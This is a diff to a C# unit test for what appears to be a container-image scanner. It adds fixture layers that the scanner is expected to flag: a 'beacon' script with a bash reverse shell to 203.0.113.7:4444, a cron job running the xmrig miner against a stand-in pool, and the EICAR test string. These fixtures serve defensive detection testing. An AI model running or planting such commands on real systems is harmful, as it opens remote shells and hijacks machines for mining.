@@ -22,10 +22,14 @@ public sealed class LayerCacheTests : IDisposable
             "var/lib/dpkg/status=Package: bash\nStatus: install ok installed\nArchitecture: amd64\nVersion: 5.1\nConffiles:\n /etc/bash.bashrc 89269e1298235f1b12b4c16e4065ad0d\n\n",
             "var/lib/dpkg/info/bash.list=/.\n/usr/bin/bash\n", "var/lib/dpkg/info/bash.md5sums=0123456789abcdef0123456789abcdef  usr/bin/bash\n",
             "usr/share/doc/bash/copyright=Format: https://www.debian.org/doc/packaging-manuals/copyright-format/1.0/\n\nFiles: *\nCopyright: x\nLicense: GPL-3+\n",
-            "755:usr/bin/bash=#!x", "755:usr/bin/implant=x", "bin->usr/bin")),
+            "755:usr/bin/bash=#!x", "755:usr/bin/implant=x", "bin->usr/bin",
+            $"opt/test.com={TestFile}", "755:usr/bin/beacon=#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n", "etc/cron.d/update=# each\n*/5 * * * * root /tmp/xmrig -o stratum+tcp://pool.example.com:3333\n")),
         MadeLayer.Gzip(MadeLayer.Of($"app/server.key={Key}", "etc/.wh.passwd=", "4755:app/su=x", "app/broken/package-lock.json={")));
 
     private static string Key => SecretSample.Expand(SecretDetectors.All.Single(detector => detector.Kind.Id == "age-secret-key").Examples[0], "image").Text;
+
+    // In two pieces, so that this program does not bear the sign.
+    private const string TestFile = @"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
 
     private LayerCache Cache => new(new CacheFolder(_folder.Path, 100, 1 << 20));
 
@@ -40,6 +44,9 @@ public sealed class LayerCacheTests : IDisposable
         Assert.Equal(without, await ScanAsync(archive, Cache));
         Assert.Contains(without, line => line.Contains("app/server.key", StringComparison.Ordinal));
         Assert.Contains(without, line => line.Contains("usr/bin/implant", StringComparison.Ordinal));
+        Assert.Contains(without, line => line.Contains("opt/test.com", StringComparison.Ordinal) && line.Contains("EICAR", StringComparison.Ordinal));
+        Assert.Single(without, line => line.StartsWith("GBN-CON-252 usr/bin/beacon:2 ", StringComparison.Ordinal));
+        Assert.Single(without, line => line.StartsWith("GBN-CON-252 etc/cron.d/update:2 ", StringComparison.Ordinal));
     }
 
     [Fact]
